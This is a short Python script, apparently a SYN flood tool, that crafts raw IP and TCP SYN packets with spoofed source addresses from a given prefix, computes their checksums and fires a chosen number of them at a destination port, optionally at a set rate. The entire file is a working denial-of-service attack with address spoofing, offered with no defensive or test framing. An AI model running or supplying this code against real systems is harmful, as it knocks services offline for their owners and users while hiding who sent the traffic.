"""Sends SYNs of ever new clients: synFlood.py SOURCE_PREFIX DESTINATION PORT COUNT [A_SECOND], prefix as in 10.2; or as fast as it can."""
import socket
import struct
import sys
import time

prefix, destination, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
a_second = float(sys.argv[5]) if len(sys.argv) > 5 else None
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton(destination)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


begun = time.monotonic()
for i in range(count):
    if a_second and i % 50 == 0:
        time.sleep(max(0, begun + i / a_second - time.monotonic()))
    source = socket.inet_aton(f"{prefix}.{i >> 8 & 255}.{i & 255}")
    tcp = struct.pack("!HHIIBBHHH", 1024 + i % 60000, port, i, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64, 6, 0, source, target)
    try:
        raw.sendto(ip + tcp, (destination, 0))
    except OSError:
        pass
